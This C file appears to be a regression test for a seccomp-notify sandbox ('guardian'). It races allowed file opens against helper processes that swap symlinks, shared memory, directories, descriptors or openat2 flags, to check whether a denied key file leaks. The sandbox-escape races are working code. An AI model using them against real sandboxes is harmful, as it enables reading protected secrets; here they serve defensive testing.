/* Escape attempts against an allowed open answered CONTINUE (the kernel reads the path and
 * walks it again after the check) instead of being performed by guardian. Each mode races
 * for ~1.5 s an open of an allowed name against a second party that makes the same bytes
 * or the same name reach T/ws/.keys/key.txt (denied by the profile, inside the Landlock
 * envelope, holding the token) without any thread sharing the opener's memory:
 *   sole         a grandchild nobody traces (made by a process handed over to our own
 *                ptrace and then gone) swaps a symbolic link while we look like the
 *                session's only task;
 *   privmap      the path lies in a read-only MAP_PRIVATE mapping of a file, whose pages
 *                are the page cache's until written: a child rewrites the file (pwrite);
 *   memfd        the same through a memfd the child holds;
 *   straddle     the path starts in a private anonymous page and ends in the next page,
 *                a MAP_SHARED one that a child rewrites;
 *   lazyfree     the path's tail alone in a page freed lazily (MADV_FREE) that a child
 *                has reclaimed (process_madvise MADV_PAGEOUT, root): the text read again
 *                stops at T/ro/ro, a denied name that the allowed one extends;
 *   how          openat2 whose struct open_how lies in a MAP_SHARED page that a child
 *                turns from reading into writing with O_TRUNC (the path itself private):
 *                checked as a read of T/ro/ro.txt, which must stay whole;
 *   cwd, dirfd   the current directory (CLONE_FS), /proc/self/cwd, another process's
 *                /proc/PID/cwd, or an openat directory descriptor (CLONE_FILES) changed
 *                under a relative name by another process;
 *   vforkvm      a vfork child (which runs in our memory) makes a process with CLONE_VM
 *                and ends: that process, made by another than us, rewrites our buffer;
 *   vforkthread  the same with a thread of the vfork child's (its leader then exits);
 *   vforkkill    the vfork child vforks again and that child kills it: our vfork returns
 *                while the grandchild still runs in our memory;
 *   sibling      a process sharing nothing with us exchanges a directory with a link to
 *                the key's directory (opened through by its absolute path, then relative
 *                to the working directory), or a link to the fixture with one to the key
 *                (renameat2 RENAME_EXCHANGE, made by guardian), or puts such a link in
 *                the directory's place (symlink, link), while we open through it.
 * CR_MODE=NAME runs one. Prints whatever it read that is not the allowed file; exits 1
 * when something leaked or T/ro/ro.txt was truncated. */
#include "attack.h"
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>

static char OK[2300], KEY[2300];
/* Every store of a flipper must happen: none is dead to the compiler. */
#define BARRIER() __asm__ volatile("" ::: "memory")
static long leaks;

/* Opens `path` (relative to `dirfd`) for ~1.5 s; prints and counts what is not the
 * readable fixture file. */
static void opens_at(const char* who, int dirfd, const char* path) {
  long n_open = 0, n_leak = 0;
  char buf[256];
  for (double end = now() + 1.5; now() < end;) {
    int fd = (int)syscall(SYS_openat, dirfd, path, O_RDONLY);
    if (fd < 0) continue;
    ++n_open;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0 && strncmp(buf, "READONLY", 8) != 0) { ++n_leak; fwrite(buf, 1, (size_t)n, stdout); }
  }
  fflush(stdout);
  fprintf(stderr, "file_continue_race %s: %ld opens, %ld leaks\n", who, n_open, n_leak);
  leaks += n_leak;
}

static void opens(const char* who, const char* path) { opens_at(who, AT_FDCWD, path); }

/* A child that writes `a` then `b` (each with its NUL) at `off` of `fd` (or into `mem`)
 * until killed. */
static pid_t flipper(int fd, char* mem, const char* a, const char* b) {
  pid_t p = fork();
  if (p != 0) return p;
  size_t na = strlen(a) + 1, nb = strlen(b) + 1;
  for (double end = now() + 5; now() < end;)
    for (int i = 0; i < 1000; ++i) {
      if (mem) { memcpy(mem, b, nb); BARRIER(); memcpy(mem, a, na); BARRIER(); }
      else { pwrite(fd, b, nb, 0); pwrite(fd, a, na, 0); }
    }
  _exit(0);
}

static void stop(pid_t p) {
  kill(p, SIGKILL);
  waitpid(p, NULL, 0);
}

static void mode_sole(void) {
  char link[2300], other[2300];
  snprintf(link, sizeof link, "%s/cr-link", WS);
  snprintf(other, sizeof other, "%s/cr-other", WS);
  unlink(link);
  unlink(other);
  if (symlink(OK, link) != 0 || symlink(KEY, other) != 0) { perror("sole: symlink"); return; }
  int go[2];
  if (pipe(go) != 0) return;
  pid_t b = fork();
  if (b == 0) {
    char c;
    if (read(go[0], &c, 1) != 1) _exit(1);
    if (fork() == 0) {  /* C: reported to no tracer (B's tracer asked for no events) */
      for (double end = now() + 3; now() < end;)
        syscall(SYS_renameat2, AT_FDCWD, link, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */);
      _exit(0);
    }
    _exit(0);
  }
  /* B handed over to us: guardian no longer traces it, nor what it makes. */
  if (ptrace(PTRACE_SEIZE, b, NULL, NULL) != 0) {
    fprintf(stderr, "file_continue_race sole: PTRACE_SEIZE: %s (no hand-over here)\n", strerror(errno));
    kill(b, SIGKILL);
    waitpid(b, NULL, 0);
    return;
  }
  write(go[1], "g", 1);
  waitpid(b, NULL, __WALL);
  usleep(200000);  /* guardian sees B gone and forgets it */
  opens("sole", link);
}

static void mode_privmap(void) {
  char file[2300];
  snprintf(file, sizeof file, "%s/cr-buf", WS);
  int fd = open(file, O_RDWR | O_CREAT | O_TRUNC, 0644);
  if (fd < 0 || ftruncate(fd, 4096) != 0) { perror("privmap"); return; }
  pwrite(fd, OK, strlen(OK) + 1, 0);
  char* m = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  if (m == MAP_FAILED) { perror("privmap: mmap"); return; }
  pid_t p = flipper(fd, NULL, OK, KEY);
  opens("privmap", m);
  stop(p);
  munmap(m, 4096);
  close(fd);
}

static void mode_memfd(void) {
  int fd = (int)syscall(SYS_memfd_create, "cr", 0);
  if (fd < 0 || ftruncate(fd, 4096) != 0) { perror("memfd"); return; }
  pwrite(fd, OK, strlen(OK) + 1, 0);
  char* m = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  if (m == MAP_FAILED) { perror("memfd: mmap"); return; }
  pid_t p = flipper(fd, NULL, OK, KEY);
  opens("memfd", m);
  stop(p);
  munmap(m, 4096);
  close(fd);
}

static void mode_straddle(void) {
  char* m = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (m == MAP_FAILED) return;
  if (mmap(m + 4096, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS | MAP_FIXED, -1, 0) ==
      MAP_FAILED) { perror("straddle: mmap"); return; }
  /* The common prefix T/ in the private page, the rest in the shared one. */
  size_t pre = strlen(T) + 1;
  char* path = m + 4096 - pre;
  memcpy(path, OK, strlen(OK) + 1);
  pid_t p = flipper(-1, m + 4096, OK + pre, KEY + pre);
  opens("straddle", path);
  stop(p);
  munmap(m, 8192);
}

/* openat2 with its struct open_how in a MAP_SHARED page a child rewrites (the path itself
 * private): checked as a read of T/ro/ro.txt, the kernel's second read asks for writing
 * with O_TRUNC. */
struct how { unsigned long long flags, mode, resolve; };
static void mode_how(void) {
  struct how* h = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  if (h == MAP_FAILED) return;
  h->flags = O_RDONLY;
  pid_t p = fork();
  if (p == 0) {
    for (double end = now() + 5; now() < end;)
      for (int i = 0; i < 100000; ++i) {
        h->flags = O_WRONLY | O_TRUNC;
        BARRIER();
        h->flags = O_RDONLY;
        BARRIER();
      }
    _exit(0);
  }
  static char path[2300];
  memcpy(path, OK, strlen(OK) + 1);
  long n_open = 0;
  for (double end = now() + 1.5; now() < end;) {
    int fd = (int)syscall(SYS_openat2, AT_FDCWD, path, h, sizeof *h);
    if (fd >= 0) { ++n_open; close(fd); }
  }
  stop(p);
  struct stat st;
  if (stat(OK, &st) == 0 && st.st_size == 0) { fprintf(stderr, "how: %s truncated\n", OK); ++leaks; }
  fprintf(stderr, "file_continue_race how: %ld opens\n", n_open);
  munmap(h, 4096);
}

/* A directory of ours where "ro.txt" is a symbolic link to the key. */
static char DECOY[2300];
static int make_decoy(void) {
  char l[2400];
  snprintf(DECOY, sizeof DECOY, "%s/cr-decoy", WS);
  mkdir(DECOY, 0755);
  snprintf(l, sizeof l, "%s/ro.txt", DECOY);
  unlink(l);
  return symlink(KEY, l);
}

static char fs_stack[65536] __attribute__((aligned(16)));
static int chdir_flip(void* arg) {
  (void)arg;
  for (double end = now() + 4; now() < end;) {
    chdir(DECOY);
    chdir(RO);
  }
  return 0;
}
static int dirfd_flip(void* arg) {
  int* fds = arg;
  for (double end = now() + 2; now() < end;) {
    dup2(fds[1], 100);
    dup2(fds[0], 100);
  }
  return 0;
}

/* The current directory changed under us by a process sharing it (CLONE_FS), by name and
 * through /proc/self/cwd; then another process's own (/proc/PID/cwd). */
static void mode_cwd(void) {
  if (make_decoy() != 0) { perror("cwd: symlink"); return; }
  char here[2300];
  if (!getcwd(here, sizeof here)) return;
  chdir(RO);
  pid_t p = clone(chdir_flip, fs_stack + sizeof fs_stack, CLONE_FS | SIGCHLD, NULL);
  if (p < 0) { perror("cwd: clone"); return; }
  opens("cwd", "ro.txt");
  opens("cwd-proc-self", "/proc/self/cwd/ro.txt");
  stop(p);
  chdir(here);
  p = fork();
  if (p == 0) { chdir_flip(NULL); _exit(0); }
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/cwd/ro.txt", (int)p);
  opens("cwd-proc-pid", path);
  stop(p);
}

/* The directory descriptor of an openat swapped by a process sharing our table. */
static void mode_dirfd(void) {
  if (make_decoy() != 0) { perror("dirfd: symlink"); return; }
  int fds[2] = {open(RO, O_RDONLY | O_DIRECTORY), open(DECOY, O_RDONLY | O_DIRECTORY)};
  if (fds[0] < 0 || fds[1] < 0) { perror("dirfd: open"); return; }
  dup2(fds[0], 100);
  pid_t p = clone(dirfd_flip, fs_stack + sizeof fs_stack, CLONE_FILES | SIGCHLD, fds);
  if (p < 0) { perror("dirfd: clone"); return; }
  long n_open = 0, n_leak = 0;
  char buf[256];
  for (double end = now() + 1.5; now() < end;) {
    int fd = (int)syscall(SYS_openat, 100, "ro.txt", O_RDONLY);
    if (fd < 0) continue;
    ++n_open;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0 && strncmp(buf, "READONLY", 8) != 0) { ++n_leak; fwrite(buf, 1, (size_t)n, stdout); }
  }
  fflush(stdout);
  fprintf(stderr, "file_continue_race dirfd: %ld opens, %ld leaks\n", n_open, n_leak);
  leaks += n_leak;
  stop(p);
  close(fds[0]);
  close(fds[1]);
  close(100);
}

/* lazyfree: the path's last bytes (".txt" of T/ro/ro.txt) lie alone at the start of a
 * private anonymous page that we free lazily (MADV_FREE) before each open, and a child
 * has the kernel reclaim that page (process_madvise MADV_PAGEOUT, which needs
 * CAP_SYS_NICE: root) again and again: reclaimed, it reads as zeros, and the text stops
 * at T/ro/ro, which the profile denies (ATTACK_PREFIX=1). */
static void mode_lazyfree(void) {
  char* m = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (m == MAP_FAILED) return;
  size_t pre = strlen(OK) - 4;
  char* path = m + 4096 - pre;
  memcpy(path, OK, pre);
  memcpy(m + 4096, ".txt", 5);
  pid_t me = getpid();
  pid_t p = fork();
  if (p == 0) {
    int pfd = (int)syscall(SYS_pidfd_open, me, 0);
    struct iovec iov = {m + 4096, 4096};
    if (pfd < 0) _exit(0);
    for (double end = now() + 5; now() < end;)
      if (syscall(440 /* process_madvise */, pfd, &iov, 1, 21 /* MADV_PAGEOUT */, 0) < 0 &&
          errno != EAGAIN && errno != EINTR) {
        fprintf(stderr, "file_continue_race lazyfree: process_madvise: %s\n", strerror(errno));
        _exit(0);
      }
    _exit(0);
  }
  long n_open = 0, n_leak = 0;
  char buf[256];
  for (double end = now() + 1.5; now() < end;) {
    memcpy(m + 4096, ".txt", 5);
    madvise(m + 4096, 4096, MADV_FREE);
    int fd = (int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
    if (fd < 0) continue;
    ++n_open;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0 && strncmp(buf, "READONLY", 8) != 0) { ++n_leak; fwrite(buf, 1, (size_t)n, stdout); }
  }
  fflush(stdout);
  fprintf(stderr, "file_continue_race lazyfree: %ld opens, %ld leaks\n", n_open, n_leak);
  leaks += n_leak;
  stop(p);
  munmap(m, 8192);
}

static char vm_path[2300];
static char vm_stack[2][65536] __attribute__((aligned(16)));

static int vm_flip(void* arg) {
  (void)arg;
  size_t n = strlen(OK) + 1, m = strlen(KEY) + 1;
  for (double end = now() + 2.5; now() < end;)
    for (int i = 0; i < 10000; ++i) {
      memcpy(vm_path, KEY, m);
      BARRIER();
      memcpy(vm_path, OK, n);
      BARRIER();
    }
  return 0;
}

/* In the vfork child: a CLONE_VM process, or a thread of the child's own; returning ends
 * only this thread (glibc's clone calls exit, not exit_group), so our vfork parent goes on
 * while what was made stays in its memory. */
static int vm_middle(void* arg) {
  int flags = arg ? CLONE_VM | CLONE_THREAD | CLONE_SIGHAND : CLONE_VM | SIGCHLD;
  clone(vm_flip, vm_stack[1] + sizeof vm_stack[1], flags, NULL);
  return 0;
}

/* vforkkill: the vfork child (B) vforks again (D), and D kills B: our vfork() returns, as
 * B has ended, while D, B's vfork child, still runs in our memory. */
static int vm_killer(void* arg) {
  (void)arg;
  kill(getppid(), SIGKILL);
  vm_flip(NULL);
  _exit(0);
}
static int vm_middle_kill(void* arg) {
  (void)arg;
  clone(vm_killer, vm_stack[1] + sizeof vm_stack[1], CLONE_VM | CLONE_VFORK | SIGCHLD, NULL);
  return 0;
}

static void mode_vforkvm(int thread) {
  memcpy(vm_path, OK, strlen(OK) + 1);
  pid_t c = clone(vm_middle, vm_stack[0] + sizeof vm_stack[0], CLONE_VM | CLONE_VFORK | SIGCHLD,
                  thread ? (void*)1 : NULL);
  if (c < 0) { perror("vforkvm: clone"); return; }
  if (!thread) waitpid(c, NULL, 0);
  opens(thread ? "vforkthread" : "vforkvm", vm_path);
  if (thread) waitpid(c, NULL, 0);
}

/* sibling: a process of the session that shares nothing with us (fork) swaps, with
 * RENAME_EXCHANGE, a directory holding a readable file and a symbolic link to the key's
 * directory; then two links, one to the readable fixture and one to the key. We open the
 * file through the directory's name, then the first link: alone in our memory, with our
 * own descriptors and cwd, our opens may be answered CONTINUE, and each must have ended
 * its walk before guardian makes the next rename. */
static void mode_sibling(void) {
  char dir[2300], lnk[2300], f[2300], keys[2300], l1[2300], l2[2300];
  snprintf(dir, sizeof dir, "%s/cr-sib", WS);
  snprintf(lnk, sizeof lnk, "%s/cr-sib-link", WS);
  snprintf(f, sizeof f, "%s/key.txt", dir);
  snprintf(keys, sizeof keys, "%s/.keys", WS);
  snprintf(l1, sizeof l1, "%s/cr-sib-l1", WS);
  snprintf(l2, sizeof l2, "%s/cr-sib-l2", WS);
  unlink(lnk);
  unlink(l1);
  unlink(l2);
  mkdir(dir, 0755);
  int fd = open(f, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0 || write(fd, "READONLY sibling\n", 17) != 17) { perror("sibling: fixture"); return; }
  close(fd);
  if (symlink(keys, lnk) != 0 || symlink(OK, l1) != 0 || symlink(KEY, l2) != 0) {
    perror("sibling: symlink");
    return;
  }
  const char* pairs[2][2] = {{dir, lnk}, {l1, l2}};
  const char* opened[2] = {f, l1};
  const char* names[2] = {"sibling-dir", "sibling-link"};
  for (int i = 0; i < 2; ++i) {
    pid_t p = fork();
    if (p == 0) {
      for (double end = now() + 5; now() < end;)
        syscall(SYS_renameat2, AT_FDCWD, pairs[i][0], AT_FDCWD, pairs[i][1], 2 /* RENAME_EXCHANGE */);
      _exit(0);
    }
    if (p < 0) { perror("sibling: fork"); return; }
    opens(names[i], opened[i]);
    /* The same name relative to the working directory, whose directory a look lately found
     * free of links (the next look there is a stat of the last name alone). */
    char here[2300];
    if (i == 0 && getcwd(here, sizeof here) && chdir(WS) == 0) {
      opens("sibling-dir-relative", "cr-sib/key.txt");
      if (chdir(here) != 0) perror("sibling: chdir");
    }
    stop(p);
  }
  /* A name exchanged with a link to the key, in a directory opened through by one name
   * relative to a descriptor of it and to the working directory (the look is then a stat
   * of that name alone, which must not follow it). */
  char nd[2300], nf[2300], nl[2300];
  snprintf(nd, sizeof nd, "%s/cr-sib-names", WS);
  snprintf(nf, sizeof nf, "%s/f", nd);
  snprintf(nl, sizeof nl, "%s/l", nd);
  mkdir(nd, 0755);
  unlink(nf);
  unlink(nl);
  fd = open(nf, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0 || write(fd, "READONLY names\n", 15) != 15) { perror("sibling: names fixture"); return; }
  close(fd);
  int nfd = open(nd, O_RDONLY | O_DIRECTORY);
  if (nfd < 0 || symlink(KEY, nl) != 0) { perror("sibling: names"); return; }
  pid_t np = fork();
  if (np == 0) {
    for (double end = now() + 5; now() < end;)
      syscall(SYS_renameat2, AT_FDCWD, nf, AT_FDCWD, nl, 2 /* RENAME_EXCHANGE */);
    _exit(0);
  }
  if (np < 0) { perror("sibling: fork"); return; }
  opens_at("sibling-name-dirfd", nfd, "f");
  char back[2300];
  if (getcwd(back, sizeof back) && chdir(nd) == 0) {
    opens("sibling-name-cwd", "f");
    if (chdir(back) != 0) perror("sibling: chdir");
  }
  stop(np);
  close(nfd);
  /* A link made in an empty directory's place: the directory removed (rmdir, which moves
   * no way), a symbolic link to the read-only directory T/ro made there (symlink), or that
   * link hard-linked there (link of a symbolic link), removed, the directory made again;
   * while we create and remove a file in it. A file made in T/ro escaped. */
  char e[2300], ef[2300], rolink[2300], escaped[2300];
  snprintf(e, sizeof e, "%s/cr-sib-empty", WS);
  snprintf(ef, sizeof ef, "%s/new.txt", e);
  snprintf(rolink, sizeof rolink, "%s/cr-sib-ro", WS);
  snprintf(escaped, sizeof escaped, "%s/new.txt", RO);
  unlink(rolink);
  if (symlink(RO, rolink) != 0) { perror("sibling: symlink"); return; }
  for (int i = 0; i < 2; ++i) {
    mkdir(e, 0755);
    pid_t p = fork();
    if (p == 0) {
      for (double end = now() + 5; now() < end;) {
        if (rmdir(e) != 0) continue;
        if (i == 0) symlink(RO, e);
        else link(rolink, e);
        unlink(e);
        mkdir(e, 0755);
      }
      _exit(0);
    }
    if (p < 0) { perror("sibling: fork"); return; }
    long n_made = 0;
    for (double end = now() + 1.5; now() < end;) {
      int fd = (int)syscall(SYS_openat, AT_FDCWD, ef, O_WRONLY | O_CREAT, 0644);
      if (fd < 0) continue;
      ++n_made;
      close(fd);
      unlink(ef);
    }
    stop(p);
    int out = access(escaped, F_OK) == 0;
    fprintf(stderr, "file_continue_race %s: %ld files made, %s\n", i == 0 ? "sibling-symlink" : "sibling-hardlink",
            n_made, out ? "one in T/ro: escaped" : "none in T/ro");
    if (out) { ++leaks; unlink(escaped); }
    unlink(e);
    rmdir(e);
  }
}

int main(int argc, char** argv) {
  fixture(argc, argv);
  snprintf(OK, sizeof OK, "%s/ro.txt", RO);
  snprintf(KEY, sizeof KEY, "%s/.keys/key.txt", WS);
  const char* only = env_or("CR_MODE", "");
  if (!*only || !strcmp(only, "privmap")) mode_privmap();
  if (!*only || !strcmp(only, "memfd")) mode_memfd();
  if (!*only || !strcmp(only, "straddle")) mode_straddle();
  if (!*only || !strcmp(only, "lazyfree")) mode_lazyfree();
  if (!*only || !strcmp(only, "how")) mode_how();
  if (!*only || !strcmp(only, "cwd")) mode_cwd();
  if (!*only || !strcmp(only, "dirfd")) mode_dirfd();
  if (!*only || !strcmp(only, "vforkvm")) mode_vforkvm(0);
  if (!*only || !strcmp(only, "vforkthread")) mode_vforkvm(1);
  if (!*only || !strcmp(only, "vforkkill")) {
    memcpy(vm_path, OK, strlen(OK) + 1);
    pid_t c = clone(vm_middle_kill, vm_stack[0] + sizeof vm_stack[0], CLONE_VM | CLONE_VFORK | SIGCHLD, NULL);
    if (c > 0) {
      opens("vforkkill", vm_path);
      waitpid(c, NULL, 0);
    }
  }
  if (!*only || !strcmp(only, "sibling")) mode_sibling();
  /* Last: a hand-over marks the rest of the session as one whose tasks may not all be
   * known, where nothing is continued any more. */
  if (!*only || !strcmp(only, "sole")) mode_sole();
  /* The key itself, asked plainly: a denial for the log. */
  int fd = open(KEY, O_RDONLY);
  if (fd >= 0) { dump(fd); close(fd); ++leaks; }
  return leaks ? 1 : 0;
}
